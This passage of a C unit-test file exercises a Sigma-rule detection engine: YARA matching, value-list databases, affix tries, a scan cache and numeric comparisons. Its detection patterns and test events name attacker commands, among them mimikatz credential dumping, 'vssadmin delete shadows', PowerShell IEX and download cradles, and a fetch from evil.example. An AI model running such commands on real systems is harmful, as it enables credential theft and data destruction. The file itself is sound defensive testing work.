    NO(rs, "", "Payload", "GET http://evil.example/payload");
    tev t;
    tev_init(&t, "");
    tev_setn(&t, "Payload", "MZ\x90\0rest", 8);
    TYES(rs, &t);
    tev_init(&t, "");
    tev_setn(&t, "Payload", "xMZ\x90\0rest", 9); /* not at offset 0 */
    TNO(rs, &t);
    YES(rs, "", "Body", "token and token");
    NO(rs, "", "Body", "one token only");
    NO(rs, "", "Payload", "x"); /* y2's field absent */
    hm_ruleset_free(rs);
    EXPECT_ERROR_OPTS(SEL("        Payload|yara: NoSuchRule\n"), &o, "unknown-yara-rule");
    EXPECT_ERROR(SEL("        Payload|yara: HM_Dropper\n"), "unknown-yara-rule"); /* no folder */
}

static void test_large_value_list(void **state) {
    (void)state;
    /* S-VAL-13: thousands of values compile into one database */
    size_t cap = 400000;
    char *y = malloc(cap);
    size_t n = (size_t)snprintf(y, cap, HDR "    sel:\n        Hashes|contains:\n");
    for (int i = 0; i < 3000 && n + 200 < cap; i++)
        n += (size_t)snprintf(y + n, cap - n, "            - 'SHA256=%064x'\n", i * 7919);
    snprintf(y + n, cap - n, "    condition: sel\n");
    hm_ruleset *rs = LOAD(y);
    free(y);
    char v[200];
    snprintf(v, sizeof v, "MD5=0,SHA256=%064x,IMPHASH=1", 2999 * 7919);
    YES(rs, "", "Hashes", v);
    snprintf(v, sizeof v, "MD5=0,SHA256=%064x,IMPHASH=1", 3001 * 7919);
    NO(rs, "", "Hashes", v);
    hm_ruleset_free(rs);
}

static void test_value_list_database(void **state) {
    (void)state;
    /* The witness is the rare Image suffix; the CommandLine list (>= 6 values, some
     * wildcards, one cased) is then answered by one scan of its own database. */
    hm_ruleset *rs = LOAD(HDR "    image:\n"
                              "        Image|endswith: '\\evil-tool.exe'\n"
                              "    cmd:\n"
                              "        CommandLine|contains:\n"
                              "            - ' -NoP '\n"
                              "            - ' -e* JAB'\n"
                              "            - 'sekurlsa::'\n"
                              "            - '.downloadstring('\n"
                              "            - 'vssadmin delete shadows'\n"
                              "            - ';iex('\n"
                              "            - 'a?c.exe'\n"
                              "    condition: image and cmd\n");
    hm_ruleset_info info;
    hm_ruleset_get_info(rs, &info);
    assert_int_equal(info.list_databases, 1);
    const char *img = "C:\\Temp\\Evil-Tool.EXE";
    YES(rs, "", "Image", img, "CommandLine", "powershell -nop -w hidden ;IEX(foo)");
    YES(rs, "", "Image", img, "CommandLine", "x -EncodedCommand JABzAA==");
    YES(rs, "", "Image", img, "CommandLine", "mimikatz SEKURLSA::logonpasswords");
    YES(rs, "", "Image", img, "CommandLine", "run abc.exe now");
    YES(rs, "", "Image", img, "CommandLine", "VSSADMIN DELETE SHADOWS /all");
    NO(rs, "", "Image", img, "CommandLine", "powershell -NoProfile");
    NO(rs, "", "Image", img, "CommandLine", "x -e JAC");
    NO(rs, "", "Image", img, "CommandLine", "run ac.exe now");
    NO(rs, "", "Image", img);
    NO(rs, "", "Image", "C:\\Temp\\other.exe", "CommandLine", "sekurlsa::x");
    hm_ruleset_free(rs);
}

static void test_whole_value_lookup(void **state) {
    (void)state;
    /* whole-value predicates are answered by a hash lookup: case-insensitive by default,
     * |cased compares the bytes, a longer or shorter value never matches */
    hm_ruleset *rs = LOAD(HDR "    sel:\n"
                              "        OriginalFileName:\n"
                              "            - 'PowerShell.EXE'\n"
                              "            - 'pwsh.dll'\n"
                              "    cased:\n"
                              "        Description|cased: 'Windows PowerShell'\n"
                              "    condition: sel or cased\n");
    YES(rs, "", "OriginalFileName", "powershell.exe");
    YES(rs, "", "OriginalFileName", "POWERSHELL.EXE");
    YES(rs, "", "OriginalFileName", "PWSH.dll");
    NO(rs, "", "OriginalFileName", "powershell.exe ");
    NO(rs, "", "OriginalFileName", "xpowershell.exe");
    NO(rs, "", "OriginalFileName", "powershell.ex");
    NO(rs, "", "OriginalFileName", "powershell_exe");
    YES(rs, "", "Description", "Windows PowerShell");
    NO(rs, "", "Description", "windows powershell");
    NO(rs, "", "Description", "Windows PowerShell ISE");
    hm_ruleset_free(rs);
}

static void test_databases_per_product(void **state) {
    (void)state;
    /* a field's patterns are compiled per rule logsource: an event scans the databases of
     * the logsources that apply to it */
    hm_ruleset *rs =
        LOAD("title: win\nid: win\nlogsource: {product: windows, category: process_creation}\n"
             "detection: {s: {CommandLine|contains: alpha}, condition: s}\n"
             "---\n"
             "title: lnx\nid: lnx\nlogsource: {product: linux, category: process_creation}\n"
             "detection: {s: {CommandLine|contains: alpha}, condition: s}\n"
             "---\n"
             "title: any product\nid: anyp\nlogsource: {category: process_creation}\n"
             "detection: {s: {CommandLine|contains: [beta, alpha]}, condition: s}\n"
             "---\n"
             "title: win exact\nid: winx\nlogsource: {product: windows}\n"
             "detection: {s: {Image: 'C:\\x.exe'}, condition: s}\n"
             "---\n"
             "title: any exact\nid: anyx\nlogsource: {category: process_creation}\n"
             "detection: {s: {Image: 'C:\\y.exe'}, condition: s}\n");
    hm_ruleset_info info;
    hm_ruleset_get_info(rs, &info);
    /* CommandLine: windows, linux and any product with process_creation; Image: windows,
     * any product with process_creation */
    assert_int_equal(info.databases, 5);
    const char *prods[] = {"windows", "linux", "macos", NULL};
    const uint64_t alpha[] = {1 | 4, 2 | 4, 4, 4}, beta[] = {4, 4, 4, 4};
    const uint64_t imgx[] = {8, 0, 0, 0}, imgy[] = {16, 16, 16, 16};
    for (int i = 0; i < 4; i++) {
        tev t;
        tev_init(&t, "");
        if (prods[i])
            tev_set(&t, "product", prods[i]);
        else
            tev_unset(&t, HM_F_PRODUCT);
        tev_set(&t, "category", "process_creation");
        tev_set(&t, "CommandLine", "x ALPHA y");
        assert_int_equal(HITS(rs, &t), alpha[i]);
        tev_set(&t, "CommandLine", "x beta y");
        assert_int_equal(HITS(rs, &t), beta[i]);
        tev_set(&t, "CommandLine", "gamma");
        tev_set(&t, "Image", "c:\\X.exe");
        assert_int_equal(HITS(rs, &t), imgx[i]);
        tev_set(&t, "Image", "C:\\y.EXE");
        assert_int_equal(HITS(rs, &t), imgy[i]);
    }
    hm_ruleset_free(rs);
}

static void test_affix_tries(void **state) {
    (void)state;
    /* startswith / endswith literals are decided by a walk of a trie over the folded
     * value: nested suffixes, a cased one, a value shorter or equal to a pattern, two
     * rules ending on the same pattern */
    hm_ruleset *rs = LOAD("title: a\nid: a\nlogsource: {product: test}\n"
                          "detection: {s: {Image|endswith: ['\\cmd.exe', 'd.exe', "
                          "'\\System32\\cmd.exe']}, condition: s}\n"
                          "---\n"
                          "title: b\nid: b\nlogsource: {product: test}\n"
                          "detection: {s: {Image|endswith|cased: '\\CMD.exe'}, condition: s}\n"
                          "---\n"
                          "title: c\nid: c\nlogsource: {product: test}\n"
                          "detection: {s: {Image|startswith: ['C:\\Temp\\', 'C:\\T']}, "
                          "condition: s}\n"
                          "---\n"
                          "title: d\nid: d\nlogsource: {product: test}\n"
                          "detection: {s: {Image|endswith: 'd.exe'}, condition: s}\n");
    struct {
        const char *v;
        uint64_t want;
    } cases[] = {
        {"C:\\Windows\\System32\\cmd.exe", 1 | 8},
        {"C:\\Windows\\System32\\CMD.exe", 1 | 2 | 8},
        {"c:\\temp\\CMD.EXE", 1 | 4 | 8},
        {"C:\\T", 4},
        {"C:\\", 0},
        {"d.exe", 1 | 8},
        {".exe", 0},
        {"cmd.exe", 1 | 8},
        {"C:\\Tools\\x.exe", 4},
        {"", 0},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        tev t;
        tev_init(&t, "");
        tev_set(&t, "product", "test");
        tev_set(&t, "Image", cases[i].v);
        uint64_t got = HITS(rs, &t);
        if (got != cases[i].want) fprintf(stderr, "value '%s'\n", cases[i].v);
        assert_int_equal(got, cases[i].want);
    }
    hm_ruleset_free(rs);
}

static void test_scan_cache(void **state) {
    (void)state;
    /* one detector over many events: values that repeat (replayed from the per-database
     * cache), values that do not (the cache turns itself off, then on again), values too
     * long to cache and values marking more predicates than an entry holds must all
     * match as the reference evaluator does */
    hm_ruleset *rs = LOAD("title: a\nid: a\nlogsource: {product: test}\n"
                          "detection: {s: {Image|endswith: ['\\a.exe', 'a.exe', '.exe', 'e']}, "
                          "condition: s}\n"
                          "---\n"
                          "title: b\nid: b\nlogsource: {product: test}\n"
                          "detection: {s: {Image|contains: ['a', 'b', 'c', 'd', 'x.e', '\\']}, "
                          "condition: s}\n"
                          "---\n"
                          "title: c\nid: c\nlogsource: {product: test}\n"
                          "detection: {s: {Image|startswith: ['C:\\', 'C:\\W'], "
                          "CommandLine|contains: zz}, condition: s}\n"
                          "---\n"
                          "title: list\nid: list\nlogsource: {product: test}\n"
                          "detection: {s: {Image|endswith: '.exe'}, "
                          "c: {CommandLine|contains: [zz, q1, q2, q3, q4, q5]}, "
                          "condition: s and c}\n");
    hm_ruleset_info info;
    hm_ruleset_get_info(rs, &info);
    assert_int_equal(info.list_databases, 1); /* the CommandLine list of rule 'list' */
    hm_detector *d = hm_detector_new(rs);
    assert_non_null(d);
    char img[400], cmd[64];
    size_t matched = 0;
    for (int i = 0; i < 30000; i++) {
        int kind = (i / 5000) % 3;
        if (kind == 0) /* repeating */
            snprintf(img, sizeof img, "C:\\Windows\\%c.exe", "abcdx"[i % 5]);
        else if (kind == 1) /* all distinct */
            snprintf(img, sizeof img, "C:\\W%d\\%c.exe", i, "abcdx"[i % 5]);
        else /* too long to cache */
            snprintf(img, sizeof img, "C:\\%0250d\\%c.exe", i % 7, "abcdx"[i % 5]);
        if (kind == 1) /* distinct command lines too */
            snprintf(cmd, sizeof cmd, "run %d %s", i, i % 3 ? "zz" : "yy");
        else
            snprintf(cmd, sizeof cmd, "run %s", i % 3 ? "zz" : "yy");
        tev t;
        tev_init(&t, "");
        tev_set(&t, "product", "test");
        tev_set(&t, "Image", img);
        tev_set(&t, "CommandLine", cmd);
        hm_match a[MAXM], b[MAXM];
        size_t na = hm_detect(d, &t.ev, a, MAXM);
        size_t nb = hm_detect_reference(rs, &t.ev, b, MAXM);
        if (na != nb) fprintf(stderr, "event %d: '%s' '%s'\n", i, img, cmd);
        assert_int_equal(na, nb);
        for (size_t k = 0; k < na; k++) {
            assert_int_equal(a[k].rule, b[k].rule);
            assert_int_equal(a[k].selections, b[k].selections);
        }
        matched += na;
    }
    assert_true(matched > 30000);
    hm_detector_free(d);
    hm_ruleset_free(rs);
}

static void test_numeric_witnesses(void **state) {
    (void)state;
    /* > and >= comparisons can be a rule's witness (the field parsed once per event, the
     * satisfied ones marked): same answers as evaluating them one by one */
    hm_ruleset *rs = LOAD("title: big\nid: big\nlogsource: {product: test}\n"
                          "detection: {s: {sentbyte|gte: 1000000}, n: {F: x}, "
                          "condition: s and not n}\n"
                          "---\n"
                          "title: eq\nid: eq\nlogsource: {product: test}\n"
                          "detection: {s: {port|gte: 853, proto: tcp}, u: {port|lt: 854}, "
                          "condition: s and u}\n"
                          "---\n"
                          "title: small\nid: small\nlogsource: {product: test}\n"
                          "detection: {s: {sentbyte|gt: 0}, condition: s}\n");
    struct {
        const char *sent, *port, *proto, *f;
        uint64_t want;
    } cases[] = {
        {"999999", NULL, NULL, NULL, 4},
        {"1000000", NULL, NULL, NULL, 1 | 4},
        {"1e6", NULL, NULL, NULL, 1 | 4},
        {"2500000.5", NULL, NULL, "x", 4},
        {"abc", NULL, NULL, NULL, 0},
        {"", NULL, NULL, NULL, 0},
        {"-5", NULL, NULL, NULL, 0},
        {NULL, "853", "tcp", NULL, 2},
        {NULL, "853.5", "TCP", NULL, 2},
        {NULL, "8530", "tcp", NULL, 0},
        {"1000001", "853", "udp", NULL, 1 | 4},
    };
    for (int rep = 0; rep < 2; rep++) /* the second round replays the value cache */
        for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
            tev t;
            tev_init(&t, "");
            tev_set(&t, "product", "test");
            if (cases[i].sent) tev_set(&t, "sentbyte", cases[i].sent);
            if (cases[i].port) tev_set(&t, "port", cases[i].port);
            if (cases[i].proto) tev_set(&t, "proto", cases[i].proto);
            if (cases[i].f) tev_set(&t, "F", cases[i].f);
            uint64_t got = HITS(rs, &t);
            if (got != cases[i].want) fprintf(stderr, "case %zu\n", i);
            assert_int_equal(got, cases[i].want);
        }
    hm_ruleset_free(rs);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_doc01_yml_yaml_extensions),
        cmocka_unit_test(test_doc01_quoting_does_not_change_meaning),
        cmocka_unit_test(test_doc02_multi_document_files),
        cmocka_unit_test(test_doc03_classify_documents),
        cmocka_unit_test(test_doc04_unknown_top_level_keys_ignored),
        cmocka_unit_test(test_doc05_references_across_files),
        cmocka_unit_test(test_doc06_errors_reported_rest_loads),
        cmocka_unit_test(test_doc07_obsolete_syntax_rejected),
        cmocka_unit_test(test_meta01_title),
        cmocka_unit_test(test_meta02_id_unique),
        cmocka_unit_test(test_meta03_name_as_reference),
        cmocka_unit_test(test_meta05_taxonomy),
        cmocka_unit_test(test_meta06_status),
        cmocka_unit_test(test_meta08_level),
        cmocka_unit_test(test_meta09_tags),
        cmocka_unit_test(test_log01_logsource_mandatory),
        cmocka_unit_test(test_log02_logsource_values_case_sensitive),
        cmocka_unit_test(test_log03_routing),
        cmocka_unit_test(test_log04_definition_not_used),
        cmocka_unit_test(test_log05_field_name_resolution),
        cmocka_unit_test(test_det01_detection_and_condition),
        cmocka_unit_test(test_det02_identifier_names),
        cmocka_unit_test(test_det03_map_is_and),
        cmocka_unit_test(test_det04_list_is_or_all_is_and),
        cmocka_unit_test(test_det05_list_of_maps_is_or),
        cmocka_unit_test(test_det06_keywords),
        cmocka_unit_test(test_det07_keyword_modifiers),
        cmocka_unit_test(test_det08_keyword_scope_is_raw_record),
        cmocka_unit_test(test_det09_mixed_lists),
        cmocka_unit_test(test_det10_empty_identifier),
        cmocka_unit_test(test_det11_duplicate_key),
        cmocka_unit_test(test_val01_case_insensitive_by_default),
        cmocka_unit_test(test_val01_cased),
        cmocka_unit_test(test_val02_exact_vs_substring),
        cmocka_unit_test(test_val03_wildcards),
        cmocka_unit_test(test_val04_escapes),
        cmocka_unit_test(test_val05_special_characters_literal),
        cmocka_unit_test(test_val06_numbers),
        cmocka_unit_test(test_val07_null),
        cmocka_unit_test(test_val08_empty_string),
        cmocka_unit_test(test_val09_booleans),
        cmocka_unit_test(test_val10_repeated_vendor_field_first_wins),
        cmocka_unit_test(test_val11_dotted_names_are_flat_keys),
        cmocka_unit_test(test_val12_missing_field_and_negation),
        cmocka_unit_test(test_mod00_unknown_modifier_position),
        cmocka_unit_test(test_mod00_chain_order),
        cmocka_unit_test(test_mod01_contains),
        cmocka_unit_test(test_mod02_startswith),
        cmocka_unit_test(test_mod03_endswith),
        cmocka_unit_test(test_mod04_all),
        cmocka_unit_test(test_mod05_exists),
        cmocka_unit_test(test_mod06_cased),
        cmocka_unit_test(test_mod07_neq),
        cmocka_unit_test(test_mod08_windash),
        cmocka_unit_test(test_mod09_regex),
        cmocka_unit_test(test_mod10_regex_flags),
        cmocka_unit_test(test_mod11_base64),
        cmocka_unit_test(test_mod12_base64offset),
        cmocka_unit_test(test_mod13_wide_utf16le),
        cmocka_unit_test(test_mod14_utf16be),
        cmocka_unit_test(test_mod15_utf16_bom),
        cmocka_unit_test(test_mod16_numeric_comparisons),
        cmocka_unit_test(test_mod17_time_parts),
        cmocka_unit_test(test_mod18_cidr),
        cmocka_unit_test(test_mod19_expand),
        cmocka_unit_test(test_mod20_fieldref),
        cmocka_unit_test(test_mod21_chain_validity),
        cmocka_unit_test(test_cond01_condition_list_ored),
        cmocka_unit_test(test_cond02_operators_precedence),
        cmocka_unit_test(test_cond03_identifier_missing),
        cmocka_unit_test(test_cond04_x_of_pattern),
        cmocka_unit_test(test_cond05_any_of),
        cmocka_unit_test(test_cond06_them_excludes_underscore),
        cmocka_unit_test(test_cond07_pattern_matching_nothing),
        cmocka_unit_test(test_cond08_nested_parentheses),
        cmocka_unit_test(test_cond09_x_of_exact_name),
        cmocka_unit_test(test_flt01_filter_document),
        cmocka_unit_test(test_flt02_targets_and_logsource),
        cmocka_unit_test(test_flt03_semantics_and_not_warning),
        cmocka_unit_test(test_flt04_filter_identifiers_namespaced),
        cmocka_unit_test(test_flt05_several_filters),
        cmocka_unit_test(test_selection_evidence_bitmask),
        cmocka_unit_test(test_detect_max_and_order),
        cmocka_unit_test(test_yara_extension),
        cmocka_unit_test(test_large_value_list),
        cmocka_unit_test(test_value_list_database),
        cmocka_unit_test(test_whole_value_lookup),
        cmocka_unit_test(test_databases_per_product),
        cmocka_unit_test(test_affix_tries),
        cmocka_unit_test(test_scan_cache),
        cmocka_unit_test(test_numeric_witnesses),
    };
    return cmocka_run_group_tests_name("sigma", tests, group_setup, group_teardown);
}
